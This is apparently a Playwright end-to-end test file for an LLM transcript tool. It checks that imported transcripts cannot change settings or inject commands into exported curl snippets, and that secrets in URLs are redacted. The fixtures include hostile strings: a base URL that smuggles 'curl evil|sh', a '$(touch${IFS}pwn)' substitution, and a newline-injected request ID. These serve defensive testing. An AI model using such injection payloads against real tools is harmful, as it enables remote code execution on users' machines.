// Exports are built from the exact request sent, and a transcript from someone else can neither change
// the person's settings silently nor plant a command in an export.
import { readFileSync, writeFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import type { Transcript } from '../src/engine/transcript/transcript';
import { runExportedCurl } from '../test/support/run-exported-curl';
import { e2eUrls } from './fixtures/e2e-ports';
import { expect, test } from './fixtures/loupe-test';
import { openSidebarTab } from './fixtures/sidebar';
import { importFile, sendMessage } from './fixtures/run-message';
import { mockOpenAIRoot, resetMock } from './fixtures/mock-control';

const fixture = (): Transcript =>
  JSON.parse(readFileSync('test/fixtures/transcripts/v1/demo-weather-clothing.json', 'utf8')) as Transcript;

async function showExport(page: Page, round: number, format: string) {
  const card = page.getByRole('region', { name: 'Timeline' }).getByRole('article', { name: `Round ${round}` });
  await card.getByRole('button', { name: format, exact: true }).click();
  // One press: the view stays open through the card mounted again as the run settles (kept-round-exports.ts).
  await expect(
    card.getByLabel(`Round ${round} as ${format}`).or(card.getByRole('status', { name: `Round ${round} export` })),
  ).toBeVisible();
  return card;
}

const INJECTING_URL = 'https://x/$(touch${IFS}pwn)/v1/messages';

test('a hostile transcript: its settings are shown and asked about, its URLs refused or quoted', async ({
  page,
}, info) => {
  const transcript = fixture();
  transcript.settings = {
    ...transcript.settings,
    provider: 'anthropic',
    model: 'claude-evil',
    baseUrl: 'https://x; curl evil|sh; #',
  };
  const [first, second] = transcript.rounds;
  const wire = (url: string, messages: unknown[]) => ({
    method: 'POST' as const,
    url,
    headers: { 'anthropic-version': '2023-06-01' },
    auth: { header: 'x-api-key' },
    body: { model: 'claude-evil', max_tokens: 10, stream: true },
    history: { kept: 0, added: messages },
    response: { status: 200, requestId: 'req\ntouch pwn' },
  });
  first!.request.provider = 'anthropic';
  first!.sent = wire('https://x; curl evil|sh; #', transcript.messages.slice(0, 1));
  second!.request.provider = 'anthropic';
  second!.sent = wire(INJECTING_URL, transcript.messages.slice(0, 3));
  const path = info.outputPath('hostile.json');
  writeFileSync(path, JSON.stringify(transcript));

  await page.goto('/');
  await importFile(page, path);
  const offer = page.getByRole('region', { name: 'Imported settings' });
  await expect(offer).toContainText('Provider: anthropic (yours: demo)');
  await expect(offer).toContainText('not offered: It contains spaces or control characters.');
  await expect(page.getByRole('combobox', { name: 'Provider' })).toHaveValue('demo');
  await offer.getByRole('button', { name: 'Keep mine' }).click();
  await expect(offer).toHaveCount(0);
  await expect(page.getByRole('combobox', { name: 'Provider' })).toHaveValue('demo');

  const round1 = await showExport(page, 1, 'curl');
  await expect(round1.getByRole('status', { name: 'Round 1 export' })).toContainText('spaces or control characters');

  const round2 = await showExport(page, 2, 'curl');
  const curl = (await round2.getByLabel('Round 2 as curl').textContent()) ?? '';
  const run = runExportedCurl(curl);
  expect(run.injected).toBe(false);
  expect(run.args[1]).toBe(new URL(INJECTING_URL).href);
  expect(JSON.parse(run.stdin)).toMatchObject({ model: 'claude-evil', messages: transcript.messages.slice(0, 3) });

  const round3 = await showExport(page, 3, 'Python');
  await expect(round3.getByRole('status', { name: 'Round 3 export' })).toHaveText(
    'Demo model: no HTTP request was made. The demo model is scripted and answers inside the browser.',
  );
});

test('an OpenAI-compatible round exports the body the endpoint received, to /v1/chat/completions once', async ({
  page,
}) => {
  await resetMock(mockOpenAIRoot);
  await page.goto('/');
  await page.getByRole('combobox', { name: 'Provider' }).selectOption({ label: 'OpenAI-compatible' });
  await page.getByRole('textbox', { name: 'Base URL' }).fill(e2eUrls.mockOpenAIApi);
  await page.getByRole('combobox', { name: 'Model' }).fill('gpt-4o-mini');
  await sendMessage(page, 'Hello');
  await expect(page.getByRole('status', { name: 'Run status' })).toContainText(/end_turn|limit/);

  const received = (
    (await (await fetch(`${mockOpenAIRoot}/__mock/requests`)).json()) as { path: string; body: unknown }[]
  ).filter((request) => request.path === '/v1/chat/completions');
  const round1 = await showExport(page, 1, 'curl');
  const run = runExportedCurl((await round1.getByLabel('Round 1 as curl').textContent()) ?? '');
  expect(run.args.filter((arg) => arg.includes('://'))).toEqual([`${e2eUrls.mockOpenAIApi}/chat/completions`]);
  expect(run.args.join(' ')).not.toMatch(/x-api-key|anthropic|\/v1\/v1/);
  expect(JSON.parse(run.stdin)).toEqual(received[0]?.body);
  await expect(round1.getByRole('list', { name: 'Round 1 request notes' })).toContainText('Sent without a key');

  await showExport(page, 1, 'JSON');
  expect(JSON.parse((await round1.getByLabel('Round 1 as JSON').textContent()) ?? '')).toEqual(received[0]?.body);
});

test('a secret in a server URL is never written down: transcript, report, session record, local storage', async ({
  page,
}) => {
  const secretUrl = `${e2eUrls.demoServer}?api_key=SECRET123`;
  await page.goto('/');
  await openSidebarTab(page, 'Servers');
  const servers = page.getByRole('list', { name: 'Servers' });
  await expect(servers.getByRole('listitem', { name: 'demo connected' })).toBeVisible();
  await servers
    .getByRole('listitem', { name: 'demo connected' })
    .getByRole('button', { name: /remove/i })
    .click();
  await page.getByRole('textbox', { name: 'Server URL' }).fill(secretUrl);
  await page.getByRole('button', { name: 'Add server' }).click();
  await expect(servers.getByRole('listitem', { name: /connected/ })).toBeVisible();
  // A provider base URL with user info and a query secret, typed and left (no request is made with it).
  await openSidebarTab(page, 'Settings');
  await page.getByRole('combobox', { name: 'Provider' }).selectOption({ label: 'OpenAI-compatible' });
  await page.getByRole('textbox', { name: 'Base URL' }).fill('http://user:pw@127.0.0.1:9/v1?token=SECRET456');
  await expect(page.getByText('This URL holds a secret', { exact: false })).toBeVisible();
  await page.getByRole('combobox', { name: 'Provider' }).selectOption({ label: 'Demo model' });

  await sendMessage(page, 'What should I wear in Oslo today?');
  await expect(page.getByRole('status', { name: 'Run status' })).toContainText('end_turn');

  const transcriptDownload = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export transcript' }).click();
  const transcript = readFileSync(await (await transcriptDownload).path(), 'utf8');
  expect(transcript).toContain('api_key=REDACTED');

  const reportDownload = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download report' }).click();
  const report = readFileSync(await (await reportDownload).path(), 'utf8');
  // The report escapes Markdown in names and URLs (an underscore is written `\_`), so it reads `api_key=REDACTED`.
  expect(report).toContain('api\\_key=REDACTED');

  const storage = await page.evaluate(() => JSON.stringify({ ...localStorage }));
  const records = await page.evaluate(
    () =>
      new Promise<string>((resolve, reject) => {
        const open = indexedDB.open('loupe');
        open.onerror = () => reject(new Error('no db'));
        open.onsuccess = () => {
          const db = open.result;
          const names = [...db.objectStoreNames];
          const tx = db.transaction(names, 'readonly');
          const all: unknown[] = [];
          for (const name of names) {
            const request = tx.objectStore(name).getAll();
            request.onsuccess = () => all.push(request.result);
          }
          tx.oncomplete = () => resolve(JSON.stringify(all));
        };
      }),
  );
  expect(records).toContain('REDACTED');
  for (const text of [transcript, report, storage, records]) {
    expect(text).not.toContain('SECRET123');
    expect(text).not.toContain('SECRET456');
    expect(text).not.toContain('user:pw');
  }
});
